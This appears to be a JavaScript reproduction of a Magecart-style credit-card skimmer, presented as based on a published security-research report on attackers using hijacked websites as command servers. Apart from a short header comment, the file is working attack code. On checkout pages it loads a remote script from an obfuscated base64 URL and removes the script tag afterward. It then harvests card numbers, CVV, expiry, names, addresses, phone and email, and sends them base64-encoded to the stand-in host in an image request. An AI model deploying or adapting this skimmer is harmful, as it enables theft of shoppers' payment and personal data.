// legit-site-c2, written from Akamai Security Research (Roman Lvovsky), "New Magecart-Style
// Campaign Abusing Legitimate Websites to Attack Commerce Sites" (2023): the attackers
// hijack small, unrelated legitimate websites and use them as improvised C2 servers. An
// inline loader on the victim shop holds the hijacked site's URL base64-encoded, checks it
// is on the checkout, and adds the skimmer from that site; the skimmer then sends the
// payment fields back to the same hijacked site, base64-encoded in an image request.
(function () {
  if (!/checkout|onepage|payment/i.test(location.href)) return;
  var c2 = atob("aHR0cHM6Ly9oYXJib3Vydmlldy1iYWtlcnkuaW52YWxpZC93cC1jb250ZW50L3VwbG9hZHMvMjAyMy8wNC8=");
  var s = document.createElement("script");
  s.async = true;
  s.src = c2 + "jquery.min.js?v=" + (Date.now() / 864e5 | 0);
  s.onload = function () { s.parentNode && s.parentNode.removeChild(s); };
  (document.head || document.documentElement).appendChild(s);
  // the part the hijacked site serves back, kept here for a self-contained variant
  var fields = ["cardnumber", "cc-number", "exp-date", "cvc", "cvv", "firstname", "lastname",
    "street", "city", "postcode", "telephone", "email"];
  function collect() {
    var d = {};
    document.querySelectorAll("input, select").forEach(function (el) {
      var n = (el.name || el.id || "").toLowerCase();
      if (fields.some(function (f) { return n.indexOf(f) > -1; }) && el.value) d[n] = el.value;
    });
    return d;
  }
  var btn = document.querySelector("#payment-button, button[type=submit].checkout, .action.checkout");
  if (!btn) return;
  btn.addEventListener("click", function () {
    var d = collect();
    if (!Object.keys(d).length) return;
    d.site = location.host;
    var img = new Image();
    img.src = c2 + "img.php?id=" + btoa(unescape(encodeURIComponent(JSON.stringify(d))));
  });
})();
